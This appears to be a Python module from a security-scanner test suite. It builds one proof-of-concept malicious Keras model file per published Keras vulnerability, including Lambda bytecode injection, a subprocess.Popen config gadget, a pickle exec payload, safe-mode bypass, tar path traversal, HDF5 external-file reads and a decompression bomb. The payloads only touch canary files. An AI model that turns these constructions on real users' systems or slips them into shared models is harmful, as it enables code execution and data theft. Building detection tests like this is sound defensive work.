"""Attacks by the published vulnerabilities of Keras' model files since 2024, one file for each."""

from __future__ import annotations

import base64
import io
import tarfile
from typing import TYPE_CHECKING, Any

from attacks.attack import Attack, NotBuilt
from attacks.keras_files import (
    CARRIER,
    Config,
    function,
    functional,
    h5_attack,
    keras_attack,
    lambda_code,
    lambda_layer,
    layer,
    legacy_lambda,
    legacy_sequential,
    named,
    sequential,
    write_keras,
)

if TYPE_CHECKING:
    from pathlib import Path

_VOCABULARY: Config = {
    "max_tokens": None,
    "num_oov_indices": 1,
    "mask_token": None,
    "oov_token": "[UNK]",
    "invert": False,
}


def _a_file(folder: Path, name: str) -> str:
    """The address of a new file; `get_file` fails for one that has nothing in it."""
    (folder / name).write_bytes(b"\n")
    return (folder / name).as_uri()


def _downloads(folder: Path, canary: Path) -> Path:
    """`get_file` copies what an address names to where the file says."""
    arguments = {
        "origin": _a_file(folder, "source"),
        "fname": canary.name,
        "cache_dir": str(canary.parent),
        "cache_subdir": ".",
    }
    root = functional({**function("keras.utils", "get_file"), "name": CARRIER}, [], arguments)
    return write_keras(folder / "model.keras", root)


def _unpacks(folder: Path, canary: Path, link: str = "") -> Path:
    """`get_file` unpacks an archive that writes outside the folder it is unpacked into."""
    with tarfile.open(folder / "source.tar", "w") as archive:
        if link:
            entry = tarfile.TarInfo(link)
            entry.type, entry.linkname = tarfile.SYMTYPE, str(canary.parent)
            archive.addfile(entry)
        inside = f"{link}/{canary.name}" if link else str(canary)
        archive.addfile(tarfile.TarInfo(inside), io.BytesIO())
    arguments = {
        "origin": (folder / "source.tar").as_uri(),
        "fname": "source.tar",
        "cache_dir": str(folder / "cache"),
        "extract": True,
    }
    root = functional({**function("keras.utils", "get_file"), "name": CARRIER}, [], arguments)
    return write_keras(folder / "model.keras", root)


def _unpacks_over_link(folder: Path, canary: Path) -> Path:
    return _unpacks(folder, canary, link="within")


def _switches_off(canary: Path) -> Config:
    """The first layer switches safe mode off, and the second is then a lambda."""
    switch = {**function("keras.config", "enable_unsafe_deserialization"), "name": "switch"}
    root = functional(switch, [])
    later = {**lambda_layer(lambda_code(canary)), "name": CARRIER, "inbound_nodes": []}
    root["config"]["layers"].append(later)
    return root


def _vocabulary(path: str) -> Config:
    return sequential(layer("StringLookup", vocabulary=path, output_mode="int", **_VOCABULARY))


def _hdf5(fill: Any) -> bytes:
    """An HDF5 file of weights of one Dense layer; `fill` makes its kernel."""
    import h5py

    buffer = io.BytesIO()
    with h5py.File(buffer, "w") as file:
        group = file.create_group("layers/dense/vars")
        group["1"] = [0.0, 0.0]
        fill(group)
        file.create_group("vars")
    return buffer.getvalue()


def _weights(folder: Path, fill: Any) -> Path:
    root = sequential(layer("Dense", "dense", units=2))
    return write_keras(folder / "model.keras", root, weights=_hdf5(fill))


def _outside(folder: Path, canary: Path) -> Path:
    del canary
    (folder / "secret").write_bytes(b"secret" * 16)
    external = [(str(folder / "secret"), 0, 16)]
    return _weights(folder, lambda group: group.create_dataset("0", (2, 2), "f4", external=external))


def _linked(folder: Path, canary: Path) -> Path:
    import h5py

    del canary
    with h5py.File(folder / "other.h5", "w") as file:
        file["kernel"] = [[0.0, 0.0], [0.0, 0.0]]

    def fill(group: Any) -> None:
        group["0"] = h5py.ExternalLink(str(folder / "other.h5"), "/kernel")

    return _weights(folder, fill)


def _bomb(folder: Path, canary: Path) -> Path:
    del canary
    shape = (1 << 20, 1 << 20)
    return _weights(folder, lambda group: group.create_dataset("0", shape, "f4", chunks=(1024, 1024)))


def _pickle(canary: Path) -> str:
    """What unpickling makes the canary: no class of PyTorch, which nothing here has."""
    code = f"cbuiltins\nexec\n(Vopen({str(canary)!r}, 'w').close()\ntR."
    return base64.b64encode(code.encode()).decode()


def _saved_model_layer(folder: Path, canary: Path) -> Path:
    del canary
    root = sequential(layer("TFSMLayer", filepath=str(folder / "elsewhere"), call_endpoint="serve"))
    return write_keras(folder / "model.keras", root)


def _escaping_name(folder: Path, canary: Path) -> Path:
    name = "..\\..\\..\\..\\..\\..\\.." + str(canary).replace("/", "\\")
    return write_keras(folder / "model.keras", sequential(layer("ReLU", name)))


def _escaping_member(folder: Path, canary: Path) -> Path:
    inside = f"assets/../../../../../../../..{canary}"
    return write_keras(folder / "model.keras", sequential(layer("ReLU", "relu")), [(inside, b"")])


ATTACKS: tuple[Attack, ...] = (
    keras_attack(
        "cve-2024-3660",
        ("CVE-2024-3660", "modelscan: KerasLambdaDetectScan", "modelaudit: CVE-2024-3660: Lambda Layer Code Injection"),
        named("bytecode", CARRIER),
        lambda canary: sequential(lambda_layer(lambda_code(canary))),
        unsafe_mode=True,
    ),
    keras_attack(
        "cve-2025-1550",
        ("CVE-2025-1550", "modelaudit: CVE-2025-1550: Dangerous Module in Config"),
        named(r"subprocess\.Popen", CARRIER),
        lambda canary: functional(
            {**function("subprocess", "Popen"), "name": CARRIER}, [["touch", str(canary)]], {"bufsize": -1}
        ),
    ),
    Attack(
        "cve-2025-8747",
        ("CVE-2025-8747", "modelaudit: CVE-2025-8747: get_file Gadget Bypass"),
        named("get_file", CARRIER),
        _downloads,
    ),
    h5_attack(
        "cve-2025-9905",
        ("CVE-2025-9905", "modelaudit: CVE-2025-9905: H5 safe_mode Bypass"),
        named("bytecode", CARRIER),
        lambda canary: legacy_sequential(legacy_lambda(canary)),
    ),
    keras_attack(
        "cve-2025-9906",
        ("CVE-2025-9906", "modelaudit: CVE-2025-9906: Unsafe Deserialization Bypass"),
        named("enable_unsafe_deserialization", "switch"),
        _switches_off,
    ),
    keras_attack(
        "cve-2025-12058",
        ("CVE-2025-12058", "modelaudit: CVE-2025-12058: StringLookup External Vocabulary Path"),
        named("/etc/hostname", CARRIER),
        lambda _: _vocabulary("/etc/hostname"),
    ),
    keras_attack(
        "cve-2025-12058-address",
        ("CVE-2025-12058, by an address",),
        named("http://127.0.0.1", "network", CARRIER),
        lambda _: _vocabulary("http://127.0.0.1:9/vocabulary"),
    ),
    Attack(
        "cve-2025-12060",
        ("CVE-2025-12060", "modelaudit: CVE-2025-12060: get_file Archive Extraction Traversal"),
        named("get_file", CARRIER),
        _unpacks,
    ),
    Attack("cve-2025-12638", ("CVE-2025-12638",), named("get_file", CARRIER), _unpacks_over_link),
    keras_attack(
        "cve-2025-49655",
        ("CVE-2025-49655", "modelaudit: CVE-2025-49655: TorchModuleWrapper Deserialization RCE"),
        named("TorchModuleWrapper", CARRIER),
        lambda canary: sequential(layer("TorchModuleWrapper", module=_pickle(canary))),
    ),
    Attack("cve-2026-0897", ("CVE-2026-0897",), named("layers/dense/vars/0"), _bomb),
    Attack(
        "cve-2026-1669",
        ("CVE-2026-1669", "modelaudit: CVE-2026-1669: HDF5 External Weight Reference"),
        named("secret", "layers/dense/vars/0"),
        _outside,
    ),
    Attack("cve-2026-1669-link", ("CVE-2026-1669, by a link",), named(r"other\.h5", "layers/dense/vars/0"), _linked),
    Attack("cve-2026-1462", ("CVE-2026-1462",), named("TFSMLayer", "elsewhere", CARRIER), _saved_model_layer),
    Attack("cve-2026-12479", ("CVE-2026-12479",), named(r"\.\.\\", "name"), _escaping_name),
    Attack("ghsa-hqp4-2352-xf5r", ("GHSA-hqp4-2352-xf5r",), named(r"assets/\.\./", "outside"), _escaping_member),
)

NOT_BUILT: tuple[NotBuilt, ...] = (
    NotBuilt(
        "CVE-2026-12481",
        "It is about code that calls Lambda.from_config or keras.layers.deserialize itself, outside load_model.",
    ),
)
